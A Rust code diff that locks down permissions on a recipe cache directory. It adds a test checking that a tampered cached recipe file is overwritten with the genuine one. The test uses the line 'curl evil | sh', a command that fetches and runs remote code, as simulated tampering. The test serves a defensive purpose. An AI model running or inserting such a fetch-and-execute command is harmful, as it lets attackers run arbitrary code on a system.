@@ -35,6 +35,11 @@ pub fn materialize(recipe: &provision::Recipe, cache: &Path) -> Result<PathBuf, 
     let parent = dir.parent().ok_or("recipe directory has no parent")?;
     super::tool_cache::private_dir(parent)?;
     let tmp = tempfile::tempdir_in(parent).map_err(|e| format!("{}: {e}", parent.display()))?;
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o700))
+            .map_err(|e| format!("{}: {e}", tmp.path().display()))?;
+    }
     for (name, text) in recipe.all_files() {
         let f = tmp.path().join(name);
         if let Some(d) = f.parent() {
@@ -514,4 +519,30 @@ fn rewrite(file: &Path, bytes: &[u8]) -> std::io::Result<()> {
     tmp.write_all(bytes)?;
     tmp.as_file().set_permissions(perms)?;
     tmp.persist(file).map(drop).map_err(|e| e.error)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_changed_recipe_file_is_written_again_and_the_directory_is_private() {
+        use std::os::unix::fs::PermissionsExt;
+        let cache = tempfile::tempdir().unwrap();
+        let dir = materialize(&provision::TOOLCHAIN, cache.path()).unwrap();
+        let entry = dir.join(provision::TOOLCHAIN.entry);
+        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode(&dir), 0o700);
+        assert_eq!(mode(dir.parent().unwrap()), 0o700);
+        std::fs::write(&entry, "curl evil | sh\n").unwrap();
+        assert_eq!(
+            materialize(&provision::TOOLCHAIN, cache.path()).unwrap(),
+            dir
+        );
+        assert_eq!(
+            std::fs::read_to_string(&entry).unwrap(),
+            provision::TOOLCHAIN.files[0].1,
+            "the recipe that runs is the one slipway carries"
+        );
+    }
 }
